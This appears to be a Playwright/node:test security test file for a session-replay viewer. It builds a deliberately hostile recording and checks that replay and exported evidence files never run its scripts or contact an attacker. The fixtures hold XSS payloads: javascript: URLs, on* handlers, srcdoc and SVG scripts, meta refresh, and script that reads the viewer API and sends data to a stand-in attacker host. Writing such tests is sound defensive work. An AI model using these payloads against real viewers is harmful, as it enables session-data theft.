/**
 * Hostile recordings through real Chromium. Anyone can upload events for their
 * own session, and their own captures end up in the archive: a recording is
 * attacker input. An analyst opens it in the viewer (and in an exported evidence
 * file); no recorded byte may run as script, read the viewer's API or send
 * anything to the attacker. The recording tries: an <iframe srcdoc> loading a
 * captured script from /archive/ (the attack that worked while canvas replay
 * turned on allow-scripts), the same script served text/plain with a captured
 * X-Content-Type-Options, javascript: URLs, on* attributes, <base>, <meta
 * http-equiv=refresh>, SVG with script (inline, and archived behind <object>,
 * <embed> and <iframe>), an archived HTML document with script, and canvas
 * drawing. The archive route itself must keep its own security headers, refuse
 * made-up session ids and answer masked URLs.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { randomUUID } from 'node:crypto';
import type { Browser, Page } from 'playwright';
import { PNG } from 'pngjs';
import { LevelStore } from '../../store/level/level-store';
import type { CapturedResource, RecordedEvent } from '../../store/records';
import { launchChromium } from '../../scripts/chromium';
import { evidenceFile } from '../../scripts/export/evidence-html';
import { startViewer, type Viewer } from '../server';
import { rawGet } from './http-client';

const root = path.resolve(import.meta.dirname, '../..');
const SID = 'h0st1lerec0rd1ngsess10n0001';
const T0 = 1_712_000_000_000;
const SITE = 'https://bank.example';
const EVIL = 'https://evil.example';
const A = (url: string, ts = T0 + 20): string => `/archive/${SID}/${ts}/${url}`;

let dir: string;
let store: LevelStore;
let viewer: Viewer;
let browser: Browser;
let attacker: http.Server;
let attackerUrl: string;
const attackerHits: string[] = [];

/** What the recorded script does if it ever runs: say so, read the viewer's API, send it out. */
const payload = (tag: string): string =>
  `console.log('PWNED ${tag} '+location.href);fetch('/api/sessions').then(r=>r.text()).then(t=>{location.href=ATTACKER+'/stolen/${tag}?n='+t.length}).catch(()=>{location.href=ATTACKER+'/ran/${tag}'})`;

function redPng(w: number, h: number): string {
  const img = new PNG({ width: w, height: h });
  for (let i = 0; i < w * h; i++) img.data.set([220, 20, 20, 255], i * 4);
  return `data:image/png;base64,${PNG.sync.write(img).toString('base64')}`;
}

async function capture(url: string, body: string, headers: [string, string][], extra: Partial<CapturedResource> = {}): Promise<void> {
  const bytes = Buffer.from(body);
  const digest = await store.putBlob(bytes);
  await store.putCapture({
    id: randomUUID(), sessionId: SID, method: 'GET', url, status: 200, headers, startedAt: T0 + 5,
    timing: { headersMs: 1, totalMs: 2 }, body: { digest, size: bytes.length, encoding: '', truncated: false }, ...extra,
  });
}

function hostileEvents(att: string): RecordedEvent[] {
  const js = (tag: string): string => payload(tag).replace(/ATTACKER/g, JSON.stringify(att));
  const el = (id: number, tagName: string, attributes: Record<string, unknown>, childNodes: unknown[] = [], extra: Record<string, unknown> = {}): unknown =>
    ({ type: 2, id, tagName, attributes, childNodes, ...extra });
  const srcdoc = `<script src="${A(`${EVIL}/x.js`)}"></script><script src="${A(`${EVIL}/plain.js`)}"></script>`
    + `<script>${js('srcdoc-inline')}</script><img src="nope.png" onerror="${js('srcdoc-onerror').replace(/"/g, '&quot;')}">`
    + `<meta http-equiv="refresh" content="0;url=${att}/refresh/srcdoc"><a id="go" href="javascript:${js('srcdoc-link')}">x</a>`;
  return [
    { type: 4, timestamp: T0 + 10, data: { href: `${SITE}/statement`, width: 800, height: 600 } },
    { type: 2, timestamp: T0 + 20, data: { initialOffset: { top: 0, left: 0 }, node: { type: 0, id: 1, childNodes: [
      el(2, 'html', {}, [
        el(3, 'head', {}, [
          el(4, 'base', { href: `${att}/base/` }),
          el(5, 'meta', { 'http-equiv': 'refresh', content: `1;url=${att}/refresh/top` }),
          el(6, 'script', { src: A(`${EVIL}/x.js`) }),
        ]),
        el(7, 'body', { onload: js('body-onload') }, [
          el(8, 'canvas', { width: '200', height: '100', rr_dataURL: redPng(200, 100) }),
          el(9, 'iframe', { srcdoc, width: '300', height: '100' }),
          el(10, 'iframe', { src: `javascript:${js('iframe-js-url')}` }),
          el(11, 'img', { src: 'nope.png', onerror: js('img-onerror') }),
          el(12, 'svg', { onload: js('svg-onload'), width: '20', height: '20' }, [
            el(13, 'script', {}, [{ type: 3, id: 14, textContent: js('svg-inline') }], { isSVG: true }),
          ], { isSVG: true }),
          el(15, 'object', { data: `${EVIL}/evil.svg`, type: 'image/svg+xml' }),
          el(16, 'embed', { src: `${EVIL}/evil.svg`, type: 'image/svg+xml' }),
          el(17, 'iframe', { src: `${EVIL}/evil.svg` }),
          el(18, 'iframe', { src: `${EVIL}/evil.html` }),
          el(19, 'a', { href: `javascript:${js('link')}`, id: 'link' }, [{ type: 3, id: 20, textContent: 'statement' }]),
          el(21, 'form', { action: `${att}/form`, id: 'f' }, [el(22, 'input', { type: 'submit', formaction: `javascript:${js('formaction')}` })]),
        ]),
      ]),
    ] } } },
    // Canvas drawing after the snapshot: the old player turned on allow-scripts for this.
    { type: 3, timestamp: T0 + 100, data: { source: 9, id: 8, type: 0, commands: [{ property: 'fillStyle', args: ['#0000ff'], setter: true }, { property: 'fillRect', args: [0, 0, 50, 50] }] } },
    // Later mutations try the same through attributes and added nodes.
    { type: 3, timestamp: T0 + 200, data: { source: 0, texts: [], removes: [], attributes: [
      { id: 11, attributes: { onload: js('mutation-onload'), src: 'again.png' } },
      { id: 10, attributes: { src: `javascript:${js('mutation-js-url')}` } },
    ], adds: [
      { parentId: 7, nextId: null, node: el(30, 'iframe', { srcdoc }) },
      { parentId: 3, nextId: null, node: el(31, 'meta', { 'http-equiv': 'refresh', content: `0;url=${att}/refresh/added` }) },
    ] } },
    { type: 3, timestamp: T0 + 300, data: { source: 1, positions: [{ x: 5, y: 5, id: 7, timeOffset: 0 }] } },
  ];
}

before(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'verbatim-hostile-'));
  attacker = http.createServer((req, res) => {
    attackerHits.push(req.url ?? '');
    res.writeHead(200, { 'content-type': 'text/plain' }).end('ok');
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;

  const keysDir = path.join(dir, 'keys');
  store = new LevelStore(path.join(dir, 'db'), { integrity: { keysDir, keyringDir: path.join(keysDir, 'keyring'), sealIntervalMs: 0 } });
  await store.open();
  await store.createSession({ id: SID, channel: 'proxy', startedAt: T0, viewport: { width: 800, height: 600 } });
  await store.appendEvents({ sessionId: SID, page: { id: 'p1', url: `${SITE}/statement` }, seq: 0, events: hostileEvents(attackerUrl), receivedAt: T0 + 400 });

  const script = payload('archived-script').replace(/ATTACKER/g, JSON.stringify(attackerUrl));
  await capture(`${EVIL}/x.js`, script, [['content-type', 'text/javascript']]);
  await capture(`${EVIL}/plain.js`, script, [['content-type', 'text/plain'], ['x-content-type-options', 'sniff-please']]);
  await capture(`${EVIL}/evil.svg`, `<svg xmlns="http://www.w3.org/2000/svg" onload="${payload('svg-file-onload').replace(/ATTACKER/g, `'${attackerUrl}'`)}"><script>${payload('svg-file').replace(/ATTACKER/g, JSON.stringify(attackerUrl))}</script></svg>`,
    [['content-type', 'image/svg+xml'], ['x-content-type-options', 'none'], ['content-security-policy', "script-src 'unsafe-inline'"]]);
  await capture(`${EVIL}/evil.html`, `<!doctype html><script>${payload('html-file').replace(/ATTACKER/g, JSON.stringify(attackerUrl))}</script><script src="${A(`${EVIL}/x.js`)}"></script>`,
    [['content-type', 'text/html'], ['access-control-allow-origin', 'https://evil.example']]);
  // A capture whose URL the masker changed (card digits as •), found through a cache-buster.
  await capture(`${SITE}/statement.css?card=••••••••••••1234&_=1712000000001`, 'body{color:red}', [['content-type', 'text/css']]);

  viewer = await startViewer({ store, port: 0, uiDir: path.join(root, 'dist', 'viewer') });
  browser = await launchChromium();
});

after(async () => {
  await browser?.close();
  await viewer?.close();
  await store?.close();
  await new Promise<void>((resolve) => (attacker ? attacker.close(() => resolve()) : resolve()));
  await rm(dir, { recursive: true, force: true });
});

/** Everything a page could show of recorded script running: console lines, dialogs, API reads from frames, requests out. */
function watch(page: Page, ownOrigin: string): { ran: string[]; apiFromFrames: string[]; outside: string[] } {
  const seen = { ran: [] as string[], apiFromFrames: [] as string[], outside: [] as string[] };
  page.on('console', (m) => { if (m.text().includes('PWNED')) seen.ran.push(m.text()); });
  page.on('dialog', (d) => { seen.ran.push(`dialog ${d.message()}`); void d.dismiss(); });
  page.on('request', (r) => {
    const url = r.url();
    if (url.includes('/api/') && r.frame() !== page.mainFrame()) seen.apiFromFrames.push(url);
    if (!url.startsWith(ownOrigin) && !/^(data|blob|about):/.test(url)) seen.outside.push(url);
  });
  page.on('framenavigated', (f) => { if (/^https?:/.test(f.url()) && !f.url().startsWith(ownOrigin)) seen.outside.push(`navigated ${f.url()}`); });
  return seen;
}

test('a hostile recording replays in the viewer without running any recorded script or reaching out', async () => {
  const page = await browser.newPage({ viewport: { width: 1200, height: 900 } });
  const seen = watch(page, viewer.url);
  await page.goto(`${viewer.url}/sessions/${SID}?at=${T0 + 350}`);
  await page.waitForSelector('html[data-replay-ready="true"]', { timeout: 30_000 });
  // Time for a meta refresh (1 s), an onerror and a slow script to act.
  await page.waitForTimeout(2_500);

  const sandbox = await page.$eval('.replayer-wrapper iframe', (f) => f.getAttribute('sandbox'));
  const frames = page.frames().map((f) => f.url());
  await page.close();
  assert.deepEqual(seen.ran, [], 'no recorded script ran');
  assert.deepEqual(seen.apiFromFrames, [], 'no replayed frame read the viewer API');
  assert.deepEqual(seen.outside, [], 'nothing left for another origin');
  assert.deepEqual(attackerHits, [], 'the attacker received nothing');
  assert.ok(frames.every((u) => u.startsWith(viewer.url) || /^about:/.test(u)), frames.join('\n'));
  assert.equal(sandbox, 'allow-same-origin', 'the replay frame never gets allow-scripts');
});

test('the archive keeps its own security headers whatever a capture says', async () => {
  for (const [url, type] of [[`${EVIL}/x.js`, /^text\/plain/], [`${EVIL}/plain.js`, /^text\/plain/], [`${EVIL}/evil.svg`, /^image\/svg\+xml/], [`${EVIL}/evil.html`, /^text\/html/]] as const) {
    const res = await rawGet(`${viewer.url}${A(url)}`);
    assert.equal(res.status, 200, url);
    assert.equal(res.headers['x-content-type-options'], 'nosniff', `${url}: nosniff, not the capture's value`);
    assert.match(String(res.headers['content-type']), type, `${url}: never a script type`);
    const csp = String(res.headers['content-security-policy']);
    assert.match(csp, /(^|; )sandbox(;|$)/, `${url}: archived documents are sandboxed`);
    assert.match(csp, /script-src 'none'/);
    assert.equal(res.headers['access-control-allow-origin'], '*');
  }
});

test('the archive refuses a made-up session id instead of answering from other sessions', async () => {
  const res = await rawGet(`${viewer.url}/archive/madeupsession0000000000000/${T0 + 20}/${EVIL}/x.js`);
  assert.equal(res.status, 404);
  assert.match(res.text, /SESSION_UNKNOWN/);
});

test('a masked URL (with •) is answered, not a 500', async () => {
  const res = await rawGet(`${viewer.url}${A(`${SITE}/statement.css?card=••••••••••••1234&_=1712000000999`)}`);
  assert.equal(res.status, 200, res.text);
  assert.equal(res.text, 'body{color:red}');
  assert.equal(res.headers['x-verbatim-original-url'], `${SITE}/statement.css?card=${'%E2%80%A2'.repeat(12)}1234&_=1712000000001`);
  const exact = await rawGet(`${viewer.url}${A(`${SITE}/statement.css?card=${'%E2%80%A2'.repeat(12)}1234&_=1712000000001`)}`);
  assert.equal(exact.status, 200, 'the percent-encoded form finds what the masker wrote');
});

test('the exported evidence file replays the hostile recording without running any of it', async () => {
  const { html } = await evidenceFile(store, path.join(dir, 'keys'), SID);
  const file = path.join(dir, 'evidence.html');
  await writeFile(file, html);
  const context = await browser.newContext({ viewport: { width: 1200, height: 900 } });
  try {
    const page = await context.newPage();
    const seen = watch(page, 'file:');
    await page.goto(pathToFileURL(file).href);
    await page.waitForFunction(() => (window as unknown as { verbatimReplay?: unknown }).verbatimReplay !== undefined);
    await page.evaluate(() => (window as unknown as { verbatimReplay: { seek(ms: number): Promise<void> } }).verbatimReplay.seek(340));
    await page.waitForSelector('html[data-replay-ready="true"]');
    await page.waitForTimeout(2_500);
    assert.equal(await page.$eval('.replayer-wrapper iframe', (f) => f.getAttribute('sandbox')), 'allow-same-origin');
    const canvas = await (await (await page.$('.replayer-wrapper iframe'))!.contentFrame())!.$eval('canvas', (c) => [c.getBoundingClientRect().width, c.getBoundingClientRect().height]);
    assert.deepEqual(canvas, [200, 100], 'the file draws canvases too, without scripts in the replay');
    assert.deepEqual(seen.ran, [], 'no recorded script ran in the file');
    assert.deepEqual(seen.outside, [], 'nothing left the file');
    assert.deepEqual(attackerHits, []);
  } finally {
    await context.close();
  }
  // The proof half keeps the raw records; the replay half has no handler or srcdoc left.
  const replayed = /<script type="application\/json" id="verbatim-events">([^]*?)<\/script>/.exec(await readFile(file, 'utf8'))?.[1] ?? '';
  assert.ok(replayed.length > 1000);
  assert.doesNotMatch(replayed, /"on\w+":"|"srcdoc":"|"http-equiv":"|javascript:/, 'recorded handlers are not even in the replay events');
});
